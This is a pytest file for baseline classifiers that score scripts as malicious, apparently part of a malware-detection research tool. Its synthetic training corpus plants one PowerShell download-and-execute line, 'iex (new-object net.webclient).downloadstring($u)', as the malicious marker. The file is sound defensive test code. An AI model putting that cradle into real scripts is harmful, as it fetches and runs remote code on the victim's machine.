import numpy as np
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from psembed.models import baselines
from psembed.runtime.errors import CorpusError, ParameterError

LINEAR = ("bag_of_words", "token_3gram", "char_3gram", "svm_char_3gram")
FITTED = (*LINEAR, "gradient_boosting")


def corpus(seed, n=240):
    """Clean-looking scripts; the malicious ones fetch and run something from a reserved domain."""
    generator = np.random.default_rng(seed)
    nouns = [f"noun{letter}{other}" for letter in "abcdefgh" for other in "abcdefgh"]
    labels = np.arange(n) % 4 == 0
    texts = []
    for malicious in labels:
        words = generator.choice(nouns, 60).tolist()
        lines = [
            f"get-item ${one} | select {other};" for one, other in zip(words[::2], words[1::2], strict=True)
        ]
        if malicious:
            lines.insert(generator.integers(30), "iex (new-object net.webclient).downloadstring($u);")
        texts.append(" ".join(lines))
    return texts, labels.astype(int)


@pytest.mark.parametrize("name", FITTED)
def test_a_planted_difference_is_found_on_unseen_scripts(name):
    texts, labels = corpus(0)
    model = baselines.fit(name, texts, labels, seed=0, validation=corpus(1))
    unseen, truth = corpus(2)
    scores = model.score(unseen)
    assert scores.dtype == np.float32
    assert scores.shape == (len(unseen),)
    assert scores[truth == 1].min() > scores[truth == 0].max()
    assert tuple(model.tried) == baselines.GRIDS[name]
    assert model.tried[model.strength] == max(model.tried.values())


@pytest.mark.parametrize("name", FITTED)
def test_a_strength_that_was_chosen_elsewhere_is_the_one_fitted_with(name):
    texts, labels = corpus(0, n=80)
    chosen = baselines.fit(name, texts, labels, seed=0, validation=corpus(1, n=80)).strength
    given = baselines.fit(name, texts, labels, seed=0, strength=chosen)
    searched = baselines.fit(name, texts, labels, seed=0, validation=corpus(1, n=80))
    assert np.array_equal(given.score(texts), searched.score(texts)) and given.tried == {}
    weakest = baselines.fit(name, texts, labels, seed=0, strength=baselines.GRIDS[name][-1])
    assert baselines.GRIDS[name][-1] in weakest.classifier.get_params().values()


@pytest.mark.parametrize("name", (*FITTED, "length", "novelty"))
def test_rows_of_texts_that_are_read_once_give_the_scores_of_these_texts(name, monkeypatch):
    texts, labels = corpus(12, n=90)
    train, test = np.arange(0, 60), np.array([80, 61, 61, 75])
    alone = baselines.fit(name, [texts[row] for row in train], labels[train], seed=0)
    read = baselines.Read(texts)
    shared = baselines.fit(name, read.rows(train), labels[train], seed=0)
    monkeypatch.setattr(baselines, "_counts", lambda *_: pytest.fail("counted again"))
    monkeypatch.setattr(baselines, "_VIEWS", dict.fromkeys(baselines._VIEWS, baselines._counts))
    found = shared.score(read.rows(test))
    monkeypatch.undo()
    assert len(read.rows(test)) == 4 and len(read) == 90
    assert np.array_equal(found, alone.score([texts[row] for row in test]))


def test_all_models_of_characters_share_what_is_counted():
    read = baselines.Read(["get-item $x", "iex"])
    assert read.counted("char_3gram") is read.counted("svm_char_3gram")
    assert read.rows(np.array([1])).counted("svm_char_3gram").shape[0] == 1
    assert read.counted("char_3gram").sum() == 9 + 1


def test_novelty_is_the_mean_rarity_among_clean_scripts():
    """Of three clean scripts all hold `abc`, one `xyz`: rarities 0, ln 2, and ln 4 where none does."""
    model = baselines.fit("novelty", ["abc", "abc", "abcxyz", "qqq"], np.array([0, 0, 0, 1]), seed=0)
    expected = {
        "abc": 0.0,
        "abc abc": None,
        "xyz": np.log(2),
        "qqq": np.log(4),
        "xyz!": np.log(8) / 2,
        "": 0.0,
    }
    scores = dict(zip(expected, model.score(list(expected)), strict=True))
    for text, rarity in expected.items():
        if rarity is not None:
            assert scores[text] == pytest.approx(1 / (1 + np.exp(5 - rarity)), rel=1e-5), text
    assert scores["abc"] < scores["abc abc"] < scores["qqq"]  # each of its n-grams counts once
    assert model.score(["qqq"]) == model.score(["qqqqqqqq"])


def test_novelty_learns_nothing_from_malicious_scripts():
    texts, labels = corpus(13, n=60)
    others = ["zqx jkv" if label else text for text, label in zip(texts, labels, strict=True)]
    models = [
        baselines.fit("novelty", given, labels, seed=seed) for seed, given in enumerate((texts, others))
    ]
    assert np.array_equal(models[0].rarity, models[1].rarity)
    unseen, truth = corpus(14, n=60)
    scores = models[0].score(
        [f"{text} zqx-JKV [ref]" if bad else text for text, bad in zip(unseen, truth, strict=True)]
    )
    assert np.median(scores[truth == 1]) > np.median(scores[truth == 0])


@pytest.mark.parametrize("name", FITTED)
def test_same_seed_gives_the_same_scores_and_a_series_reads_like_a_list(name):
    texts, labels = corpus(3, n=60)
    one = baselines.fit(name, texts, labels, seed=5).score(texts)
    two = baselines.fit(name, pl.Series(texts), labels, seed=5).score(pl.Series(texts))
    assert np.array_equal(one, two)


@pytest.mark.parametrize("name", baselines.GRIDS)
def test_every_tuned_model_gets_the_same_number_of_strengths_and_keeps_the_strongest_of_equals(name):
    grid = baselines.GRIDS[name]
    assert len(set(grid)) == len(baselines.GRIDS["length"])
    assert list(grid) == sorted(grid)
    texts, labels = corpus(9, n=80)
    held = ([texts[0], texts[0]], np.array([0, 1]))  # no model can tell these apart
    assert baselines.fit(name, texts, labels, seed=0, validation=held).strength == grid[0]
    assert baselines.fit(name, texts, labels, seed=0).strength == grid[baselines.DEFAULT]
    assert baselines.fit(name, texts, labels, seed=0, strength=grid[-1]).strength == grid[-1]


def test_length_alone_finds_short_and_long_and_reads_nothing_else():
    random = np.random.default_rng(0)
    sizes = random.permutation(np.arange(1, 601))
    labels = ((sizes < 100) | (sizes > 500)).astype(int)
    model = baselines.fit("length", ["a" * size for size in sizes], labels, seed=0)
    scores = model.score(["b" * size for size in (50, 300, 550, 400)])
    assert scores.dtype == np.float32
    assert (scores > 0.5).tolist() == [True, False, True, False]
    assert np.array_equal(model.score(["$" * 50]), scores[:1])


def test_length_cannot_see_what_texts_of_one_length_say():
    texts, labels = corpus(10, n=80)
    longest = max(map(len, texts))
    model = baselines.fit("length", [text.ljust(longest) for text in texts], labels, seed=0)
    assert len(set(model.score([text.ljust(longest) for text in texts]).tolist())) == 1


@pytest.mark.parametrize("name", LINEAR)
def test_the_score_rises_with_the_decision_value(name):
    texts, labels = corpus(11, n=80)
    model = baselines.fit(name, texts, labels, seed=0)
    counts = baselines.Read(texts).counted(name)[:, model.view.columns]
    values = model.classifier.decision_function(model.view.weighting.transform(counts))
    assert np.allclose(model.score(texts), 1 / (1 + np.exp(-values)), atol=1e-6)
    assert (np.diff(model.score(texts)[np.argsort(values)]) >= 0).all()


def test_nothing_is_learned_from_validation_or_scored_texts():
    texts, labels = corpus(4, n=80)
    held = (["zqx jkv zqx jkv", "wvu qzq wvu qzq"], np.array([0, 1]))
    with_held = baselines.fit("char_3gram", texts, labels, seed=0, validation=held)
    without = baselines.fit("char_3gram", texts, labels, seed=0)
    assert np.array_equal(with_held.view.columns, without.view.columns)
    assert np.array_equal(with_held.view.weighting.idf_, without.view.weighting.idf_)


def test_the_scores_do_not_depend_on_the_batch(monkeypatch):
    texts, labels = corpus(5, n=60)
    whole = baselines.fit("token_3gram", texts, labels, seed=0).score(texts)
    monkeypatch.setattr(baselines, "_BATCH", 7)
    model = baselines.fit("token_3gram", texts, labels, seed=0)
    assert np.allclose(model.score(texts), whole, atol=1e-6)
    assert np.allclose(np.concatenate([model.score([text]) for text in texts]), whole, atol=1e-6)


@given(st.lists(st.text(st.sampled_from("aB~ \n\té\U0001f600"), max_size=9), min_size=1, max_size=6))
def test_character_3grams_are_those_of_each_text_alone(texts):
    columns, bounds = baselines._characters(pl.Series(texts, dtype=pl.String))
    folded = [
        [0 if c.isspace() else ord(c) - 32 if 32 < ord(c) < 127 else baselines.CODES - 1 for c in text]
        for text in texts
    ]
    expected = [
        (row[i] * baselines.CODES + row[i + 1]) * baselines.CODES + row[i + 2]
        for row in folded
        for i in range(len(row) - 2)
    ]
    assert columns.tolist() == expected
    assert np.diff(bounds).tolist() == [max(len(text) - 2, 0) for text in texts]


def test_case_is_a_signal_for_characters_and_not_for_tokens():
    for name, differs in (("char_3gram", True), ("bag_of_words", False)):
        lower, mixed = (baselines.Read([text]).counted(name) for text in ("iex $a", "IeX $A"))
        assert bool((lower != mixed).sum()) is differs


def test_a_50_mb_one_line_script_and_an_empty_one_are_scored():
    texts, labels = corpus(6, n=40)
    for name in (*FITTED, "novelty"):
        scores = baselines.fit(name, texts, labels, seed=0).score(["$a=1;" * 10_000_000, "", "é"])
        assert np.isfinite(scores).all()


def test_one_line_rule_counts_lines():
    rule = baselines.fit("one_line_rule", [], [], seed=0)
    texts = ["iex $a", "\r\niex $a\n", "a\nb", "a\r\nb\r\nc\r\nd", "a\rb", ""]
    assert rule.score(texts).tolist() == [1, 1, 0.5, 0.25, 0.5, 1]
    assert rule.score(texts).dtype == np.float32


def test_no_text_gives_no_score():
    texts, labels = corpus(7, n=40)
    for name in baselines.BASELINES:
        assert baselines.fit(name, texts, labels, seed=0).score([]).shape == (0,)


def test_bad_input_is_named():
    texts, labels = corpus(8, n=20)
    with pytest.raises(ParameterError, match="'forest': expected one of one_line_rule, length, bag_of_words"):
        baselines.fit("forest", texts, labels, seed=0)
    with pytest.raises(CorpusError, match="malicious"):
        baselines.fit("bag_of_words", texts, np.zeros(20, int), seed=0)
    with pytest.raises(CorpusError, match="20 texts and 3 labels"):
        baselines.fit("bag_of_words", texts, [0, 1, 0], seed=0)
    with pytest.raises(CorpusError, match="malicious"):
        baselines.fit("bag_of_words", texts, labels, seed=0, validation=(texts, np.ones(20, int)))
